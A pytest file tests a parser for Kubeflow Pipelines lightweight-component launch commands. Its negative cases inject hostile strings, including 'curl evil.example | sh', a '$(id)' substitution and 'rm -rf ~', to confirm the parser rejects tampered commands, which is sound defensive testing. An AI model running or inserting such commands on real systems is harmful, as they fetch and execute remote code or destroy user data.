"""Recognising the kfp-generated lightweight-component command (from real corpus IR)."""

from __future__ import annotations

import pytest

from apps.backends.local import parse_lightweight_command
from tests.backends.conftest import corpus_executor

ARGS = ["--executor_input", "{}", "--function_to_execute", "f"]


def test_add_numbers_from_the_corpus() -> None:
    container = corpus_executor("critical/add_numbers.yaml")
    parsed = parse_lightweight_command(container["command"] + ARGS)
    assert parsed is not None
    assert parsed.kfp_version == "2.14.6"
    assert [i.requirements for i in parsed.installs] == [
        ("kfp==2.14.6", 'typing-extensions>=3.7.4,<5; python_version<"3.9"')
    ]
    assert parsed.installs[0].no_deps
    assert "def add_numbers(a: int, b: int) -> int:" in parsed.source
    assert parsed.args == tuple(ARGS)
    assert parsed.function_name == "f"
    assert not parsed.use_venv


def test_packages_and_index_options() -> None:
    container = corpus_executor("essential/component_with_pip_install.yaml")
    parsed = parse_lightweight_command(container["command"] + ARGS)
    assert parsed is not None
    first, second = parsed.installs
    assert first.requirements == ("yapf",)
    assert first.index_url == "https://pypi.org/simple"
    assert first.trusted_hosts == ("https://pypi.org/simple",)
    assert not first.no_deps
    assert second.no_deps
    assert "yapf" in parsed.packages
    assert parsed.kfp_version == "2.14.3"


def test_venv_variant_is_recognised_as_the_same_environment() -> None:
    plain = corpus_executor("essential/component_with_pip_install.yaml")
    venv = corpus_executor("essential/component_with_pip_install_in_venv.yaml")
    parsed_plain = parse_lightweight_command(plain["command"] + ARGS)
    parsed_venv = parse_lightweight_command(venv["command"] + ARGS)
    assert parsed_venv is not None
    assert parsed_plain is not None
    assert parsed_venv.use_venv
    assert parsed_venv.installs == parsed_plain.installs


def test_without_prelude() -> None:
    container = corpus_executor("critical/add_numbers.yaml")
    parsed = parse_lightweight_command(container["command"][3:] + ARGS)
    assert parsed is not None
    assert parsed.installs == ()
    assert parsed.kfp_version is None


def _mutate(index: int, old: str, new: str) -> list[str]:
    command = list(corpus_executor("critical/add_numbers.yaml")["command"])
    assert old in command[index]
    command[index] = command[index].replace(old, new)
    return command + ARGS


@pytest.mark.parametrize(
    ("index", "old", "new"),
    [
        (2, "'kfp==2.14.6'", "'kfp==2.14.6'; curl evil.example | sh #"),
        (2, "'kfp==2.14.6'", "kfp==$(id)"),
        (2, "--no-warn-script-location", "--no-warn-script-location --target /tmp/x"),
        (2, "python3 -m pip install", "python3 -m pip uninstall"),
        (2, '&& "$0" "$@"', '&& rm -rf ~ && "$0" "$@"'),
        (5, "kfp.dsl.executor_main", "evil_module"),
        (5, '"$@"', '"$@" --extra'),
        (1, "-c", "-xc"),
    ],
)
def test_anything_else_is_not_recognised(index: int, old: str, new: str) -> None:
    assert parse_lightweight_command(_mutate(index, old, new)) is None


@pytest.mark.parametrize(
    "argv",
    [
        [],
        ["echo", "hello"],
        ["sh", "-c", "echo hi"],
        ["python3", "-m", "kfp.dsl.executor_main", "--executor_input", "{}"],
        ["sh", "-ec", "program_path=$(mktemp -d)"],
    ],
)
def test_ordinary_commands(argv: list[str]) -> None:
    assert parse_lightweight_command(argv) is None
